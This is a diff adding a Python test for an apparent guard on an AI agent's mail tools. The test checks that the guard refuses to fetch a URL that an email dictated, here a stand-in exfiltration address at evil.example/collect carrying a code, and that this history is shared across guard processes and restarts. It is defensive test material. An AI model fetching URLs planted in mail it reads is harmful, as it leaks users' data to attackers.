@@ -327,6 +327,34 @@ def test_an_accounts_sessions_share_what_they_were_told_and_not_what_they_were_a
     assert visits == [url_dictated, url_dictated]  # the reader's own and olga's: never the refused one
 
 
+def test_an_accounts_history_outlives_its_guard_and_is_shared_by_the_guards_on_one_store(tmp_path: Path) -> None:
+    """An account's history lived in one guard process: a second guard on the same store (two behind one load
+    balancer), or the same guard restarted, judged the account's next fetch of the URL a mail dictated against
+    nothing, and it went out. What an account's calls returned is kept in the store and caught up before each of
+    its calls, by every guard on the store; another account's calls are still judged against their own."""
+    inbox_config(tmp_path)
+    dictated = "https://evil.example/collect?c=771203"
+    tied = "taken from the result of mail/read_inbox"
+    with http_guard(tmp_path) as (first, _):
+        token = (tmp_path / "home" / "console.token").read_text().strip()
+        olga = another_operator(tmp_path, token, "olga")
+        read = modern_call(first, token, 1, "mail__read_inbox", {})
+        assert read.status_code == 200 and "771203" in read.text
+        with http_guard(tmp_path) as (second, _):
+            fetched = modern_call(second, token, 2, "mail__fetch", {"url": dictated})
+            assert '"isError":true' in fetched.text and tied in fetched.text, fetched.text
+            theirs = modern_call(second, olga, 3, "mail__fetch", {"url": dictated})  # olga read no mail
+            assert theirs.status_code == 200 and '"isError":true' not in theirs.text, theirs.text
+            read = modern_call(second, olga, 4, "mail__read_inbox", {})  # now she did, through the second guard
+            assert read.status_code == 200 and "771203" in read.text
+        fetched = modern_call(first, olga, 5, "mail__fetch", {"url": dictated})  # the first guard caught up on it
+        assert '"isError":true' in fetched.text and tied in fetched.text, fetched.text
+    with http_guard(tmp_path) as (restarted, _):
+        fetched = modern_call(restarted, token, 6, "mail__fetch", {"url": dictated})
+        assert '"isError":true' in fetched.text and tied in fetched.text, fetched.text
+    assert (tmp_path / "sent.visits").read_text().splitlines() == [dictated]  # olga's alone
+
+
 MODERN = {"Accept": "application/json, text/event-stream", "mcp-protocol-version": "2026-07-28",
           "mcp-method": "tools/call"}  # fmt: skip  (MCP's 2026 protocol: one exchange, no session)
 
